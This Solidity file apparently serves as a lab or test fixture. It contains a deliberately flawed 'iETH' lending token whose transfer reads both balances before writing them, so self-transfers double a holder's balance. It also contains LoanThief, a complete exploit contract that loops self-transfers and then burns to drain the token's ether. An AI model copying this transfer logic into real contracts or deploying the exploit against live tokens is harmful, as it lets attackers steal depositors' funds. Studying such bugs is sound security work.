// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

/// A share of lent ether. A transfer reads both balances before it writes either.
contract LoanToken {
    string public constant name = "iETH";
    string public constant symbol = "iETH";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Mint(address indexed minter, uint256 tokenAmount, uint256 assetAmount, uint256 price);
    event Burn(address indexed burner, uint256 tokenAmount, uint256 assetAmount, uint256 price);

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (msg.sender != from) allowance[from][msg.sender] -= value;
        return move(from, to, value);
    }

    function mint() external payable {
        balanceOf[msg.sender] += msg.value;
        totalSupply += msg.value;
        emit Mint(msg.sender, msg.value, msg.value, 1e18);
        emit Transfer(address(0), msg.sender, msg.value);
    }

    function burn(uint256 value) external {
        uint256 paid = value <= address(this).balance ? value : address(this).balance;
        balanceOf[msg.sender] -= value;
        totalSupply -= value > totalSupply ? totalSupply : value;
        (bool ok,) = msg.sender.call{value: paid}("");
        require(ok, "not paid");
        emit Burn(msg.sender, value, paid, 1e18);
        emit Transfer(msg.sender, address(0), value);
    }

    function move(address from, address to, uint256 value) private returns (bool) {
        uint256 newFrom = balanceOf[from] - value;
        uint256 newTo = balanceOf[to] + value;
        balanceOf[from] = newFrom;
        balanceOf[to] = newTo;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Sends itself what it has, and has it twice.
contract LoanThief {
    function run(LoanToken token, uint256 times, address payable payee) external payable {
        token.mint{value: msg.value}();
        for (uint256 i = 0; i < times; i++) token.transfer(address(this), token.balanceOf(address(this)));
        token.burn(token.balanceOf(address(this)));
        (bool ok,) = payee.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {}
}

/// Moves a house's shares through its own wallets, as houses do, and cashes most of them.
contract LoanHouse {
    address private immutable owner = msg.sender;

    function enter(LoanToken token) external payable {
        token.mint{value: msg.value}();
    }

    function shuffle(LoanToken token, LoanHouse to) external {
        require(msg.sender == owner, "not the owner");
        token.transfer(address(to), token.balanceOf(address(this)));
    }

    function cash(LoanToken token, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        token.burn(amount);
        (bool ok,) = owner.call{value: address(this).balance}("");
        require(ok, "not paid");
    }

    receive() external payable {}
}
